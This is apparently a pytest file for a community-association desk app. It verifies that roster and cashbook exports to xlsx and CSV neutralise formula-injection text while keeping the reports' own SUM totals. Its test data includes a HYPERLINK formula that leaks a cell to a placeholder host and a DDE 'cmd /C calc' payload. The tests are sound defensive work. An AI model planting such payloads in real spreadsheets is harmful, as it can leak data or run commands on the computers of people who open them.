"""Hostile text in exports: a member named like a formula, a 摘要 「=1+1」, control characters —
written as plain text (xlsx: string cells with the quote prefix; CSV: a leading apostrophe), while
the accounts reports keep their own SUM formulas."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from accounts_helpers import Book
from member_helpers import add, two_associations
from openpyxl import load_workbook

from nagato_desk.reports.exports import REPORTS, ExportRequest
from nagato_desk.reports.xlsx_base import SheetWriter, new_workbook, save_workbook

EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"クリック")'


def _cells(path: Path) -> dict[str, object]:
    ws = load_workbook(path).active
    return {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}


def test_a_member_named_like_a_formula_is_text_in_xlsx_and_csv(db, tmp_path: Path):
    with db.session() as s:
        assoc = two_associations(s)["東区自治会"]
        add(s, EVIL_NAME, "えびる", association_id=assoc, notes="+1+1")
        add(s, "@SUM(1,2)", "あっと", association_id=assoc, notes="鈴\x07木\x00さん")
    xlsx = ExportRequest(tmp_path / "r.xlsx", "xlsx", columns=("name", "notes"))
    csv = ExportRequest(tmp_path / "r.csv", "csv", columns=("name", "notes"))
    with db.Session() as s:
        xlsx_warnings = REPORTS["roster"].run(s, xlsx)
        REPORTS["roster"].run(s, csv)
    cells = _cells(xlsx.out)
    for text in (EVIL_NAME, "+1+1", "@SUM(1,2)"):
        assert cells[text].data_type == "s", text  # not 'f': never run
        assert cells[text].quotePrefix, text  # and stays text when someone edits the cell
    # the control characters (BEL, NUL) cannot be written to xlsx: replaced, with a warning
    assert "鈴〓木〓さん" in cells
    assert any("U+0007" in w and "U+0000" in w for w in xlsx_warnings)
    rows = csv.out.read_text(encoding="utf-8-sig").splitlines()
    assert any(line.startswith("東区自治会,,\"'=HYPERLINK(") for line in rows)
    assert any(",'+1+1" in line for line in rows)
    assert any(',"\'@SUM(1,2)",鈴木さん' in line for line in rows)  # control characters stripped


def test_a_cash_entry_described_as_a_formula_is_text_but_the_totals_stay_formulas(db, tmp_path: Path):
    with db.session() as s:
        two_associations(s)
        book = Book(s, 2026, cash=10_000)
        book.income(date(2026, 5, 1), "寄附金", 3_000, description="=1+1")
        book.expense(date(2026, 5, 2), "会議費", 500, description="-2+3", payee="=cmd|' /C calc'!A0")
    out = tmp_path / "cashbook.xlsx"
    with db.Session() as s:
        REPORTS["cashbook"].run(s, ExportRequest(out, "xlsx", fiscal_year=2026, today=date(2026, 11, 29)))
    wb = load_workbook(out)
    user = [c for ws in wb for row in ws.iter_rows() for c in row if c.value in ("=1+1", "-2+3")]
    assert len(user) >= 2 and all(c.data_type == "s" and c.quotePrefix for c in user)
    payee = [
        c
        for ws in wb
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and "calc" in c.value
    ]
    assert all(c.data_type == "s" for c in payee)
    formulas = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert any(f.startswith("=SUM(") for f in formulas)  # the report's own totals
    assert "=1+1" not in formulas


def test_sheet_writer_guards_every_kind_of_formula_start_in_all_its_writes(tmp_path: Path):
    wb = new_workbook()
    sw = SheetWriter(wb, "試験", council_name="=協議会", doc_title="@題", date_text="-日付")
    sw.key_values([("=ラベル", "\t値")])
    sw.section("+見出し")
    sw.header(["=列"])
    sw.rows([["\n改行"], ["=A1*2"], ["普通"]])  # (a CR would come back as LF from the XML)
    path = save_workbook(wb, tmp_path / "t.xlsx")
    cells = _cells(path)
    hostile = ["=協議会", "@題", "-日付", "=ラベル", "\t値", "+見出し", "=列", "\n改行", "=A1*2"]
    for text in hostile:
        assert cells[text].data_type == "s" and cells[text].quotePrefix, repr(text)
    assert not cells["普通"].quotePrefix  # plain text is left alone
